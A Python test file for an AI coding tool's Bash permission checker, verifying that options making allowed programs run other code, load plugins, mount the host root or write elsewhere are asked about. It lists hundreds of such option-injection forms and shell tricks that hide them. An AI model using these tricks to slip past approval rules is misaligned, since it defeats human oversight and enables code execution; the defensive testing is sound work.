"""Options that make an allowed program run, load or write something else are asked about, whatever allows the program.

`touch` and `./pwn` are allowed in all of it, so that only the option can be what is asked about.
"""

from __future__ import annotations

import json
import shlex
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import anyio
import pytest

from tests.interaction.test_own_files import Person, served
from tests.unit.permissions.test_policy import flow_with, in_mode, of_command
from tools.call.context import ClientState, ToolContext
from tools.contract.limits import ApprovalMode
from tools.permissions.verdict import Verdict

pytestmark = pytest.mark.anyio

ALSO = ["Bash(touch *)", "Bash(./pwn *)", "Bash(echo *)", "Bash(pkg-config *)"]

LONG = {
    "git clone": ["upload-pack=./pwn", "template=.", "config=core.sshCommand=./pwn", "separate-git-dir=x"],
    "git fetch": ["upload-pack=./pwn"],
    "git pull": ["upload-pack=./pwn"],
    "git push": ["receive-pack=./pwn", "exec=./pwn"],
    "git ls-remote": ["upload-pack=./pwn"],
    "git archive": ["exec=./pwn", "output=x"],
    "git rebase": ["exec=./pwn"],
    "git init": ["template=."],
    "git log": ["output=x", "ext-diff"],
    "git show": ["output=x"],
    "git diff": ["output=x", "ext-diff"],
    "git format-patch": ["output-directory=x"],
    "git difftool": ["extcmd=./pwn"],
    "git grep": ["open-files-in-pager=./pwn"],
    "git send-email": ["sendmail-cmd=./pwn", "to-cmd=./pwn"],
    "tar -cf a.tar": [
        "to-command=./pwn",
        "use-compress-program=./pwn",
        "checkpoint-action=exec=./pwn",
        "rsh-command=./pwn",
    ],
    "sort": ["compress-program=./pwn", "output=x"],
    "split": ["filter=./pwn"],
    "rsync -a": ["rsh=./pwn", "log-file=x"],
    "wget": ["use-askpass=./pwn", "execute=use_askpass=./pwn", "save-cookies=x"],
    "make": ["eval=x:;./pwn"],
    "pytest": ["override-ini=addopts=-pevil", "config-file=x.ini", "pdbcls=evil:x"],
    "pip install": ["index-url=https://evil.example", "target=x"],
    "install": ["strip-program=./pwn"],
}
"""GNU long options: joined, apart, and shortened by a letter."""

EXACT = {
    "curl": ["--config x", "--libcurl x", "-K x", "-w %output{x}", "-sK x"],
    "git": ["-c core.pager=./pwn log", "-c alias.x=!./pwn x", "--config-env=core.pager=X log", "--exec-path=. log"],
    "git clone": ["-c core.sshCommand=./pwn", "-ccore.sshCommand=./pwn", "-c http.proxy=x", "-u ./pwn", "-qu ./pwn"],
    "git rebase": ["-x ./pwn", "-x./pwn", "-ix ./pwn", "-ix./pwn"],
    "git grep": ["-O./pwn x", "-nO./pwn x"],
    "git submodule": ["foreach ./pwn", "foreach --recursive ./pwn"],
    "git bisect": ["run ./pwn"],
    "git bundle": ["create x HEAD"],
    "git archive": ["-o x HEAD"],
    "gcc": [
        "-wrapper sh,-c,./pwn", "-B.", "-B .", "-specs=x", "--specs=x", "-fplugin=./x.so", "-fuse-ld=./pwn", "@x",
        "-Wl,-plugin,./x.so", "-Xlinker -plugin", "-Wl,@x", "--prefix=.",
    ],
    "clang": ["-fpass-plugin=./x.so", "--ld-path=./pwn", "-Xclang -load", "-B.", "--config=x", "-fuse-ld=/tmp/x"],
    "gcc-13": ["-B."],
    "aarch64-linux-gnu-g++": ["-wrapper ./pwn"],
    "ld": ["-plugin ./x.so", "@x"],
    "make": ["-f x", "-f -", "SHELL=./pwn", "CC=./pwn", "CC='touch pwn'", "X='$(shell ./pwn)'", "CFLAGS=-B.", "-sE x"],
    "ninja": ["-f x"],
    "cmake": ["-P x", "-C x", "-E rm x", "-DCMAKE_C_COMPILER=./pwn", "-D CMAKE_CXX_COMPILER_LAUNCHER=./pwn"],
    "pytest": ["-p evil", "-pevil", "-qp evil", "-c x.ini", "--pdb"],
    "python -m pytest": ["-p evil", "--pdbcls=x:y"],
    "uv run pytest": ["-p evil"],
    "uv run": ["--with evil pytest", "--python ./pwn pytest"],
    "tox": ["-c x.ini"],
    "npm test": ["--script-shell=./pwn", "--script-shell ./pwn", "-script-shell ./pwn", "--node-options=-r./x"],
    "npm install": ["-g x", "--global x", "--registry=https://evil.example x"],
    "npx eslint": ["--rulesdir ./x", "-f ./x.js"],
    "npx": ["-c ./pwn", "-p evil eslint", "--package=evil eslint"],
    "node": ["--experimental-loader ./x.mjs x.js", "--import ./x.mjs x.js"],
    "cargo": ["--config build.rustc-wrapper='./pwn' build", "--config=x build"],
    "cargo rustc": ["-- -Clinker=./pwn", "-- -C linker=./pwn"],
    "rustc": ["-C linker=./pwn", "-Clinker=./pwn", "--codegen linker=./pwn", "@x"],
    "go": ["build -toolexec ./pwn", "test -exec ./pwn", "vet -vettool=./pwn", "env -w CC=./pwn", "run --exec=./pwn ."],
    "go build": ["-ldflags '-extld=./pwn'", "-overlay x"],
    "javac": ["-processor x", "-J-javaagent:x", "@x"],
    "java": ["-javaagent:x.jar Main", "-XX:OnError=./pwn Main"],
    "mvn": ["-Dexec.executable=./pwn exec:exec", "-s x", "-f x.xml"],
    "gradle": ["-I x", "--init-script x", "-Dorg.gradle.java.home=x"],
    "tar": ["cfI a.tar ./pwn x", "-cf a.tar -I./pwn x", "-xPf a.tar", "xf a --checkpoint-action exec=./pwn"],
    "zip a.zip x": ["-TT ./pwn", "--unzip-command=./pwn"],
    "rsync": ["-ae ./pwn a b", "-avze./pwn a b", "--daemon --config=x"],
    "scp": ["-S ./pwn a h:", "-rS./pwn a h:", "-o ProxyCommand=./pwn a h:", "-oProxyCommand=./pwn a h:", "-F x a h:"],
    "sort": ["-o x y", "-ro x y"],
    "find": [". -fprint x", ". -fprintf x %p", ". -delete", ". -fls x"],
    "sed": ["-i'x/*' s/a/b/ f", "--in-place='x/*' s/a/b/ f"],
    "awk": ["-o 1 f", "-l x 1 f", "-ix 1 f"],
    "tcpdump": ["-z ./pwn -G 1 -w x"],
    "docker run": ["-v /:/h x", "--volume=/:/h x", "--privileged x", "--mount type=bind,src=/,dst=/h x", "-itv /:/h x",
        "--cpus 2 -v /:/h x", "--rm -e A=b --name run -v /:/h x"],
    "docker --context run": ["run -v /:/h x"],
    "docker": ["--config x ps", "-H ssh://x ps"],
    "kubectl": ["--kubeconfig x get pods", "--kubeconfig=x get pods"],
    "helm": ["install --post-renderer ./pwn a b"],
    "terraform": ["plan -plugin-dir=x", "init -from-module=x"],
    "ansible-playbook": ["--vault-password-file ./pwn x", "-e ansible_python_interpreter=./pwn x", "-M x y"],
    "hg": ["--config=ui.ssh=./pwn pull"],
    "gh": ["repo clone a/b -- -c core.sshCommand=./pwn", "repo clone a/b -- --upload-pack=./pwn"],
}  # fmt: skip
"""Forms that are particular to a program."""

PLACES = [
    "{}", "/usr/bin/{}", "env {}", "timeout 5 {}", "cd . && {}", "true; {}", "sh -c {quoted}", "nice -n 5 {}", "({})",
    "echo $({})", "if true; then {}; fi", "find . -exec {} \\;",
]  # fmt: skip
"""Where in a command it may stand."""


def _spelled(option: str) -> Iterator[str]:
    name, equals, value = option.partition("=")
    yield f"--{option}"
    yield f"'--{option}'"
    if equals:
        yield f"--{name} {value}"
        yield f"--{name[:-1]}={value}"
        yield f"--{name[:-1]} {value}"


def _members() -> Iterator[tuple[str, str]]:
    for head, options in LONG.items():
        for option in options:
            for spelled in _spelled(option):
                yield head, f"{head} {spelled} x"
                yield head, f"{head} x {spelled}"
    for head, endings in EXACT.items():
        for ending in endings:
            yield head, f"{head} {ending}"
            yield (
                head,
                f"{head} x {ending}" if head.split()[0] in ("gcc", "clang", "make", "pytest") else f"{head} {ending} x",
            )


MEMBERS = sorted(set(_members()))


async def _asked(context: ToolContext, rules: list[str], command: str) -> bool:
    return (await of_command(flow_with(permissions_allow=rules), context, command)).verdict is not Verdict.ALLOW


def _rule(head: str) -> str:
    return f"Bash({head} *)"


@pytest.mark.requirement("options.asked")
async def test_no_rule_or_answer_that_allows_a_program_covers_an_option_that_does_something_else(
    context: ToolContext,
) -> None:
    assert len(MEMBERS) >= 500
    passed: list[str] = []
    without, everything = flow_with(), flow_with(permissions_allow=["Bash", "Bash(*)", *ALSO])
    for head, command in MEMBERS:
        given = replace(context, client=ClientState("test", grants=[_rule(head), *ALSO]))
        by_answer = await of_command(without, given, command)
        by_rule = await of_command(everything, context, command)
        if Verdict.ALLOW in (by_answer.verdict, by_rule.verdict):
            passed.append(command)
    assert passed == []


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize("place", PLACES)
async def test_it_does_not_matter_where_in_a_command_it_stands(context: ToolContext, place: str) -> None:
    passed: list[str] = []
    flow = flow_with(permissions_allow=["Bash"])
    for _, command in MEMBERS[:: len(PLACES) // 2]:
        whole = place.format(command, quoted=shlex.quote(command))
        if (await of_command(flow, context, whole)).verdict is Verdict.ALLOW:
            passed.append(whole)
    assert passed == []


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize(
    "form",
    [
        "X={0}; {1} $X",
        'X={0}; {1} "$X"',
        "X={0}\n{1} ${{X}}",
        "{1} $(echo {0})",
        "{1} `echo {0}`",
        "{1} {{{0},x}}",
        "for i in x {0}; do {1} $i; done",
        "read X <<< {0}; {1} $X",
        "X=x; X={0}; {1} $X",
        "X+={0}; {1} $X",
        ": ${{X:={0}}}; {1} $X",
        "printf -v X %s {0}; {1} $X",
        "set -- {0}; {1} $1",
        "f() {{ {1} $1; }}; f {0}",
        "{1} ${{X:-{0}}}",
        "V={2}; {3} $V {0}",
    ],
)
async def test_an_option_that_the_shell_makes_of_something_else_is_asked_about(context: ToolContext, form: str) -> None:
    passed: list[str] = []
    for head, option in (
        ("git log", "--output=pwn"), ("git submodule foreach", "./pwn"), ("docker run", "-v/:/h"),
        ("make x", "CC=./pwn"), ("git clone", "--upload-pack=./pwn"), ("gcc x.c", "-B."), ("tar -cf a", "-I./pwn"),
        ("gcc x.c", "@x"), ("sort x", "-opwn"), ("rsync a b", "-e./pwn"), ("git rebase", "-x./pwn"),
        ("pytest", "-pevil"),
    ):  # fmt: skip
        program, _, verb = head.partition(" ")
        command = form.format(option, head, verb, program)
        if not await _asked(
            context, [_rule(head.split()[0]), "Bash(set *)", "Bash(read *)", "Bash(printf *)", *ALSO], command
        ):
            passed.append(command)
    assert passed == []


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(g++ *)", "g++ -c -x assembler - -o o.o"),
        ("Bash(cc *)", "cc -E -"),
        ("Bash(clang-15 *)", "clang-15 -x c - -o o"),
        ("Bash(rustc *)", "rustc - -o x"),
        ("Bash(python3 *)", "python3 -m timeit -n1 'print(1)'"),
        ("Bash(python3 *)", "python3 -mtimeit 'print(1)'"),
        ("Bash(python3 *)", "python3 -Bm timeit 'print(1)'"),
        ("Bash(python3 *)", "python3 -m pdb -c 'p 1' a.txt"),
        ("Bash(python3 *)", "python3 -X dev -m code < a.txt"),
    ],
)
async def test_a_text_that_is_given_to_run_is_asked_about(context: ToolContext, rule: str, command: str) -> None:
    assert await _asked(context, [rule], command)


EVERYDAY = [
    ("git clone", "git clone https://h.example/x"),
    ("git clone", "git clone -b main --depth 1 https://h.example/x d"),
    ("git clone", "git clone -c core.autocrlf=false -c user.name=me https://h.example/x"),
    ("git log", "git -c color.ui=never log"),
    ("git log", "git --no-pager -c color.ui=never log --oneline -n 5 --author='x y'"),
    ("git commit", "git -c user.name=me -c user.email=m@e.example commit -m 'say --output=x'"),
    ("git commit", 'git commit -m "$(date) done"'),
    ("git push", 'git push -u origin "$(git rev-parse --abbrev-ref HEAD)"'),
    ("git push", "git push --force-with-lease origin $BRANCH"),
    ("git rebase", "git rebase --autosquash --onto main a b"),
    ("git fetch", "git fetch --all --prune --update-shallow"),
    ("git stash", "git stash push -m 'x' -- f"),
    ("git checkout", "git checkout -b feature"),
    ("git add", "for f in a b; do git add $f; done"),
    ("git diff", "git diff --text --stat $(git merge-base main HEAD)"),
    ("gcc", "gcc -Wall -O2 -c x.c -o x.o"),
    (
        "gcc",
        "gcc -std=c11 -Iinclude -DN=1 -fsanitize=address -g x.c -o x -lm -pthread -Wl,-rpath,/usr/lib -Wl,--as-needed",
    ),
    ("gcc", "gcc -fuse-ld=lld -MMD -MF x.d -c x.c"),
    ("gcc", 'for f in *.c; do gcc -c "$f"; done'),
    ("gcc", "gcc $CFLAGS *.c $(pkg-config --cflags --libs gtk4)"),
    ("make", "make -j4 -C sub test V=1 PREFIX=/usr/local CC=clang CFLAGS='-O2 -g'"),
    ("make", "make -f Makefile.dev -j$(nproc) all"),
    ("cmake", "cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Release -DCMAKE_EXPORT_COMPILE_COMMANDS=ON"),
    ("cmake", "cmake --build build --config Release -- -j4"),
    ("npm test", "npm test -- --watch=false"),
    ("npm run", "npm run build"),
    ("npm install", "npm install --save-dev x --no-audit"),
    ("npx eslint", "npx eslint -c eslint.config.js --fix src"),
    ("npx jest", "npx jest --coverage --ci -t name"),
    ("pytest", "pytest -q"),
    ("pytest", "pytest -xvs -p no:cacheprovider -k 'a and not b' --cov=x --tb=short -W error -o addopts= t.py"),
    ("python -m pytest", "python -m pytest -q -n 4"),
    ("uv run pytest", "uv run pytest -q"),
    ("pip install", "pip install -e . -r requirements.txt --upgrade --pre"),
    ("cargo test", "cargo test --release --target x86_64-unknown-linux-gnu -- --nocapture"),
    ("cargo clippy", "cargo clippy --all-targets -- -D warnings"),
    ("go test", "go test ./... -run TestX -v -count=1 -race -coverprofile=c.out"),
    ("go build", "go build -o bin/x -ldflags '-s -w -X main.v=1.0' ./cmd/x"),
    ("mvn", "mvn -q -B -DskipTests -Dtest=Foo package"),
    ("gradle", "gradle build -x test --stacktrace -Pa=b"),
    ("tar", "tar -xzf a.tgz -C out"),
    ("tar", "tar czf a.tgz --exclude=.git src"),
    ("rsync", "rsync -avz --delete --exclude=x a/ b/"),
    ("sort", "sort -u -k2,2 -t, x"),
    ("sed", "sed -i.bak -e s/a/b/ x"),
    ("sed", "sed -Ei s/a/b/ x"),
    ("curl", "curl -fsSL -b a=b -w '%{http_code}' -D - -o x https://h.example"),
    ("wget", "wget -qO- https://h.example"),
    ("docker run", 'docker run --rm -it -v "$PWD:/app" -v data:/data -w /app node npm test'),
    ("docker run", "docker run --rm node npx jest -v --device x -H evil"),
    ("node", "node x.js -r foo"),
    ("docker compose", "docker compose -f compose.yml down -v"),
    ("kubectl get", "kubectl get pods -n x -o yaml"),
    ("terraform plan", "terraform plan -out=p -var a=b"),
]


@pytest.mark.requirement("options.named")
@pytest.mark.parametrize(("head", "command"), EVERYDAY)
async def test_everyday_options_of_allowed_programs_are_not_asked_about(
    context: ToolContext, head: str, command: str
) -> None:
    permission = await of_command(flow_with(permissions_allow=[_rule(head), *ALSO]), context, command)
    assert permission.verdict is Verdict.ALLOW, permission.reason


FURTHER = [
    "zip -qTT ./pwn -T a.zip x",
    "zip -qT -TT./pwn a.zip x",
    "pytest --pythonwarnings=error::evil.X",
    "make PATH=evil",
    "GREP=./pwn zgrep x a",
    "DIFF=./pwn zdiff a b",
    "ZIP='-T -TT ./pwn' zip a.zip x",
    "RM=./pwn make",
    "TCL_LIBRARY=evil tclsh a.tcl",
    "SSLKEYLOGFILE=x curl https://h.example",
    "AWS_SHARED_CREDENTIALS_FILE=x aws s3 ls",
    "g++ -fmodule-mapper=|./pwn -c a.cc",
    "cmake --build . -- SHELL=./pwn",
    "cmake -DCMAKE_C_CLANG_TIDY=./pwn .",
    "ctest --overwrite MemoryCheckCommand=./pwn",
    "npm explore x -- ./pwn",
    "git submodule--helper foreach ./pwn",
    "pytest @args.txt",
    "pytest --ds=evil",
    "make -C ../x",
    "tar -xf x --one-top-level=/etc",
    "pytest --html=/etc/x",
    "docker run --device-cgroup-rule=a x",
    "COMPOSE_FILE=/x docker compose up",
    "npm pack --pack-destination=/tmp",
    "make RM=./pwn",
    "make PYTEST=./pwn",
    "make PYTEST='sh pwn'",
    "make RM=sh",
    "make RM=python3 clean",
    "make X=-pevil",
    "make FOO=/x/pwn",
    "VIRTUAL_ENV=x pytest",
    "COVERAGE_PROCESS_START=x pytest",
    "PYENV_VERSION=x python x.py",
    "POETRY_HOME=x poetry run x",
    "just X='$(pwn)' y",
    "docker run --network host x",
    "docker run --net=host x",
    "docker run --use-api-socket x",
    "docker run --uts host x",
    "docker run --cgroupns host x",
    "docker run --group-add docker x",
    "docker exec --privileged c x",
    "docker build --allow security.insecure .",
    "docker build --output=. .",
    "docker build --output type=local,dest=.. .",
    "docker build -o . .",
    "docker build --build-context x=.. .",
    "docker build --ssh default .",
    "docker build --network host .",
    "docker build -f ../x .",
    "docker buildx build --allow x .",
    "docker buildx bake --allow x",
    "docker build --file=../x .",
    "docker save -o ../x i",
    "docker volume create -o device=/ -o type=none -o o=bind v",
    "docker volume create --opt device=/ v",
    "docker compose -f ../x.yml up",
    "docker compose --env-file x up",
    "docker compose --project-directory .. up",
    "docker compose exec --privileged x y",
    "docker-compose -f ../x.yml up",
    "podman --root x ps",
    "docker -c x ps",
    "git merge -s ./pwn x",
    "git merge --strategy=pwn x",
    "git merge --strategy pwn x",
    "git merge -spwn x",
    "git rebase --strategy=pwn x",
    "git rebase -s pwn x",
    "git cherry-pick --strategy=pwn x",
    "git revert --strategy=pwn x",
    "git pull --strategy=pwn",
    "git pull -s pwn",
    "git config -f x a b",
    "npm -C ../x install",
    "npm --prefix ../x install",
    "npm install --location=global x",
    "npm i --location global x",
    "npm install --prefix=/x y",
    "npm x -p evil eslint",
    "pnpm --dir=../x add y",
    "npx prettier --plugin=./x.js .",
    "npx prettier --plugin ./x.js .",
    "npx prettier --config x.js .",
    "npx prettier --plugin-search-dir=x .",
    "prettier --plugin ./x.js .",
    "npx babel --plugins ./x src",
    "npx babel --presets=./x src",
    "npx babel --config-file ./x src",
    "npx webpack -c evil.js",
    "npx webpack --config evil.js",
    "npx webpack --config=/x/y.js",
    "webpack -c evil.js",
    "npx rollup -c evil.js",
    "npx rollup -p ./x",
    "npx tsc --project ../x",
    "npx tsc -p ../x",
    "npx tsc --outDir /x",
    "npx tsc --build ../x",
    "npx nodemon --exec ./pwn",
    "npx nodemon -x ./pwn",
    "npx jest --rootDir /x",
    "npx jest --roots /x",
    "npx playwright test -c evil.ts",
    "npx playwright test --reporter ./x",
    "npx cypress run -C x",
    "npx cypress run --config-file x",
    "npx stylelint --config x.js y",
    "npx stylelint --custom-formatter ./x y",
    "npx stylelint --plugins ./x y",
    "npx lint-staged -c x",
    "npx postcss --use ./x a",
    "npx tailwindcss -c x.js",
    "npx svgo --config x.js a",
    "npx commitlint -x ./x",
    "npx husky init",
    "npx vitest --dir ../x",
    "npx vitest --root ../x",
    "npx knex --knexfile evil.js migrate",
    "npx grunt --gruntfile evil.js",
    "npx gulp -f evil.js",
    "npx gulp --gulpfile=evil.js",
    "npx gulp --require ./x",
    "npx typedoc --plugin ./x",
    "npx jsdoc -c x",
    "npx sequelize --config x.js db:migrate",
    "ruff check -o x",
    "ruff check --cache-dir=/x",
    "flake8 --config x",
    "flake8 --append-config x",
    "flake8 --output-file=x",
    "coverage run --rcfile=x y.py",
    "coverage html -d ../x",
    "tar -cf host:a x",
    "tar -cf user@host:/a x",
    "tar cf host:a x",
    "tar -xf host:a",
    "tar -tf host:a",
    "mt -f host:x",
    "go -C ../x build",
    "go build -C ../x",
    "cargo -C ../x build",
    "cargo build --manifest-path ../x/Cargo.toml",
    "cargo install --path ../x",
    "cargo run --manifest-path ../x/Cargo.toml",
    "cargo +./pwn build",
    "pip install --user x",
    "python -m coverage run --rcfile=x y",
    "uv run --directory ../x pytest",
    "uv --directory ../x run pytest",
    "uv --project ../x run pytest",
    "uv build -o ../x",
    "uv build --out-dir=../x",
    "uv run -w evil pytest",
    "poetry -C ../x install",
    "poetry --directory=../x install",
    "poetry -P ../x install",
    "pipenv --python ./pwn install",
    "pipenv install --pypi-mirror https://e",
    "pdm run -p ../x y",
    "pdm -c x install",
    "pdm install --project ../x",
    "hatch --config x run y",
    "pytest --rootdir=../x",
    "pytest --rootdir ../x",
    "pytest --confcutdir=/",
    "pytest --json-report-file=x",
    "pytest --cov-report=html:../x",
    "pytest -n 2 --tx ssh=x",
    "pytest --dist=each --tx popen//python=./pwn",
    "pytest --rsyncdir x",
    "pytest --pastebin=all",
    "mypy --txt-report ../x y",
    "pyright -p ../x",
    "pyright --pythonpath ./pwn",
    "pyright --pythonpath=./pwn",
    "pyright --venvpath x",
    "basedpyright --pythonpath ./pwn",
    "tsc --project ../x",
    "tsc --plugins x",
    "gradle -p ../x build",
    "gradle --project-dir=../x build",
    "ant -f ../x.xml",
    "ant -buildfile x.xml",
    "ant -lib x",
    "ant -logger x",
    "ant -propertyfile x",
    "sbt --java-home x",
    "bazel --bazelrc=x build",
    "bazel --output_base=x build",
    "bazel build --workspace_status_command=./pwn",
    "bazel run --run_under=./pwn x",
    "bazel test --test_env=x --run_under=./pwn",
    "mosh --ssh=./pwn h",
    "mosh --server=./pwn h",
    "autossh -o ProxyCommand=./pwn h",
    "sshfs -o ssh_command=./pwn h: d",
    "delta --pager ./other",
    "gs -dNOSAFER x",
    "gs -sOutputFile=%pipe%./other y",
    "latexmk -e x",
    "latexmk -r x",
    "latexmk -pdflatex=./other x",
    "pdflatex -shell-escape x",
    "pdflatex --shell-escape x",
    "pdflatex -output-directory=.. x",
    "xelatex -enable-write18 x",
    "java @x",
    "bundle exec --gemfile=../x rake",
    "bundle install --gemfile ../x",
    "bundle --gemfile=x install",
    "gem install -i x y",
    "gem install --install-dir=x y",
    "gem install --source https://e y",
    "rubocop -r ./x",
    "rubocop --require ./x",
    "rubocop -c x",
    "rubocop --config x",
    "rubocop --plugin x",
    "composer --working-dir=../x install",
    "composer -d ../x install",
    "phpunit --bootstrap x",
    "phpunit -c x",
    "phpunit --configuration x",
    "phpunit --extension x",
    "phpstan analyse -c x",
    "phpstan --autoload-file=x analyse",
    "psalm --config=x",
    "mix run -e x",
    "mix run -r x",
    "mix test --require x",
    "cabal --config-file=x build",
    "cabal build --with-compiler=./pwn",
    "cabal build -w ./pwn",
    "cabal build --ghc-options=-F",
    "cabal build --project-file=x",
    "stack --stack-yaml x build",
    "stack build --ghc-options -F",
    "swift build --package-path ../x",
    "swift build -Xswiftc -load",
    "swiftc -load-plugin-library x",
    "terraform apply -state=x",
    "kubectl -s https://e get pods",
    "kubectl --server=https://e get pods",
    "systemctl --root x enable y",
    "meson setup --native-file x b",
    "meson setup --cross-file x b",
    "meson test --wrapper ./pwn",
    "meson test --gdb",
    "meson -C ../x",
    "meson compile -C ../x",
    "scons -f x",
    "scons --site-dir=x",
    "just -f x",
    "just --justfile=x",
    "just --shell ./pwn x",
    "just -c x",
    "just --command ./other",
    "just -d ../x",
    "task -t x",
    "task --taskfile=x",
    "task -d ../x",
    "invoke -c x",
    "invoke -r ../x",
    "fab -f x",
    "pre-commit run --config x",
    "pre-commit run -c x",
    "pre-commit try-repo ../x",
    "sphinx-build -c ../x a b",
    "sphinx-build -D extensions=x a b",
    "mkdocs build -f x",
    "mkdocs build -d ../x",
    "mkdocs build --theme x",
    "alembic -c x upgrade",
    "django-admin --pythonpath=x y",
    "gunicorn -c x app",
    "gunicorn --config=x app",
    "gunicorn --chdir ../x app",
    "uvicorn --app-dir ../x app",
    "uvicorn --env-file x app",
    "uvicorn --log-config x app",
    "robot --listener x y",
    "robot --variablefile x y",
    "robot --pythonpath x y",
    "robot --prerunmodifier x y",
    "virtualenv -p ./pwn x",
    "virtualenv --app-data x y",
    "conda create -p ../x",
    "conda run -p ../x y",
    "nix-shell --run ./other",
    "nix build --option x y",
    "nix develop -c ./other",
    "apt-get -o x=y install",
    "apt-get -c x install",
    "dpkg --root=x",
    "hugo --config x",
    "hugo -s ../x",
    "hugo -d ../x",
]
"""Programs, configurations, folders, hosts and variables that options and variables of further programs name."""

FURTHER_EVERYDAY = [
    "git config user.name",
    "git config --global user.email",
    "make test PKG=./cmd/x V=1 VERSION=1.2.3 IMAGE=ghcr.io/x/y:1 DESTDIR=/tmp/x ARGS=-v",
    "make -j4 PREFIX=/usr/local BUILD_DIR=out/x TEST=tests/a.py PYTHON=python3.12 NAME=foo",
    "docker run --network none --rm node npm test",
    "docker run --network mynet --rm node npm test",
    "docker exec -it web npm test",
    "docker build -t x:y --build-arg A=b -f docker/Dockerfile .",
    "docker build --output type=docker .",
    "docker compose -f docker/compose.yml -p x up -d --build",
    "docker-compose -f compose.yml up -d",
    "docker volume create data",
    "git merge --no-ff -m x feature",
    "git merge -s ours feature",
    "git rebase -s recursive main",
    "git cherry-pick -x abc",
    "git revert --no-edit HEAD",
    "git pull --rebase --strategy-option=theirs",
    "npm -C web test",
    "npm --prefix web run build",
    "yarn --cwd web build",
    "npm install --save-dev x",
    "npx prettier --write --config .prettierrc src",
    "npx prettier --check .",
    "npx tsc --noEmit -p tsconfig.json",
    "npx tsc -b",
    "npx tsc --project packages/a",
    "npx webpack --mode production -c webpack.config.js",
    "npx rollup -c",
    "npx rollup -c rollup.config.mjs -w",
    "npx babel src --out-dir lib --presets @babel/preset-env",
    "npx playwright test -c playwright.config.ts --reporter line",
    "npx vitest run --dir src",
    "npx jest --rootDir src",
    "npx stylelint --fix src/a.css",
    "ruff check --fix .",
    "ruff format .",
    "pytest --rootdir . --cov=x --cov-report term-missing --cov-report=xml:out.xml",
    "pytest --cov-report=html tests",
    "mypy --txt-report out src",
    "pyright -p src",
    "uv --directory web run pytest",
    "poetry -C web install",
    "poetry install",
    "poetry run pytest -p no:cacheprovider -q",
    "go -C sub build ./...",
    "cargo build --manifest-path sub/Cargo.toml",
    "cargo +nightly fmt",
    "gradle -p sub build -x test",
    "./gradlew build",
    "tar -cf out/a:b.tar src",
    "tar xf a.tar -C build",
    "just build X=1",
    "task build -- x",
    "pre-commit run --all-files",
    "mkdocs build -d site",
    "sphinx-build -b html docs out",
    "bundle install",
    "composer install",
    "phpunit tests",
    "rubocop -a",
    "apt-get install -y x",
    "meson setup build",
    "bazel test //...",
    "swift build -c release",
    "java -jar x.jar",
]


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize("command", FURTHER)
async def test_an_option_of_further_programs_is_asked_about_whatever_is_allowed(
    context: ToolContext, command: str
) -> None:
    assert (await of_command(flow_with(permissions_allow=["Bash"]), context, command)).verdict is Verdict.ASK


@pytest.mark.requirement("options.named")
@pytest.mark.parametrize("command", FURTHER_EVERYDAY)
async def test_everyday_options_of_further_programs_are_not_asked_about(context: ToolContext, command: str) -> None:
    permission = await of_command(flow_with(permissions_allow=["Bash"]), context, command)
    assert permission.verdict is Verdict.ALLOW, permission.reason


@pytest.mark.requirement("options.named")
@pytest.mark.parametrize(
    ("rule", "command", "verdict"),
    [
        ("git clone -c core.sshCommand=./pwn *", "git clone -c core.sshCommand=./pwn u", Verdict.ALLOW),
        ("git clone -c core.sshCommand=*", "git clone -c core.sshCommand=./pwn u", Verdict.ALLOW),
        (
            "git clone -c core.sshCommand=ssh *",
            "git clone -c core.sshCommand=ssh -c core.sshCommand=./pwn u",
            Verdict.ASK,
        ),
        ("git clone -c *", "git clone -c core.sshCommand=./pwn u", Verdict.ASK),
        ("git clone --upload-pack=./pwn", "git clone --upload-pack=./pwn u", Verdict.ALLOW),
        ("git clone --upload*", "git clone --upload-pack=./pwn u", Verdict.ASK),
        ("git rebase --exec *", "git rebase --exec ./pwn x", Verdict.ALLOW),
        ("git rebase --exec *", "git rebase --exec ./pwn -x ./pwn x", Verdict.ASK),
        ("git rebase --exec *", "git rebase --exec 'rm x' x", Verdict.ASK),
        ("git log --output=x", "git log --output=x -1", Verdict.ALLOW),
        ("git log --output=x", "git log --output=x --output=y", Verdict.ASK),
        ("git submodule foreach *", "git submodule foreach ./pwn", Verdict.ALLOW),
        ("gcc -B. *", "gcc -B. x.c", Verdict.ALLOW),
        ("gcc -*", "gcc -B. x.c", Verdict.ASK),
        ("make CC=* all", "make CC=./pwn all", Verdict.ALLOW),
        ("sort -o *", "sort -o x y", Verdict.ALLOW),
    ],
)
async def test_a_rule_covers_an_option_that_it_names(
    context: ToolContext, rule: str, command: str, verdict: Verdict
) -> None:
    assert (
        await of_command(flow_with(permissions_allow=[f"Bash({rule})", *ALSO]), context, command)
    ).verdict is verdict


@pytest.mark.requirement("options.asked")
async def test_the_question_says_what_the_option_does_and_offers_no_lasting_answer(context: ToolContext) -> None:
    flow = flow_with(permissions_allow=["Bash(git *)", "Bash(gcc *)", *ALSO])
    for command, reason in (
        ("git clone -c core.sshCommand='touch pwn' ssh://h/x d", "-c core.sshCommand can make git clone run a program"),
        ("gcc -wrapper sh,-c,./pwn x.c", "-wrapper makes gcc run a program"),
        ("git log --outp=x", "--outp makes git log write"),
    ):
        permission = await of_command(flow, context, command)
        assert reason in permission.reason
        assert permission.grants == ()


@pytest.mark.requirement("options.asked")
async def test_yolo_asks_about_them_only_where_a_rule_forbids_something(context: ToolContext) -> None:
    yolo = in_mode(context, ApprovalMode.YOLO)
    assert (await of_command(flow_with(), yolo, "gcc -B. x.c")).verdict is Verdict.ALLOW
    narrow = flow_with(permissions_deny=["Bash(rm *)"])
    assert (await of_command(narrow, yolo, "gcc -B. x.c")).verdict is Verdict.ASK


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize("program", ["gcc -o", "gcc -MF", "go build -o", "javac -d", "openssl x -out"])
@pytest.mark.parametrize("target", [".git/hooks/post-checkout", "../outside"])
async def test_what_a_compiler_is_told_to_write_is_judged_as_written(
    root: Path, context: ToolContext, program: str, target: str
) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    assert await _asked(context, [_rule(program.split(maxsplit=1)[0])], f"{program} {target} x")


@pytest.mark.requirement("options.asked")
@pytest.mark.parametrize(
    "command",
    [
        "git clone -c core.sshCommand='touch {}' ssh://h.invalid/x d",
        "git -c core.sshCommand='touch {}' ls-remote ssh://h.invalid/x",
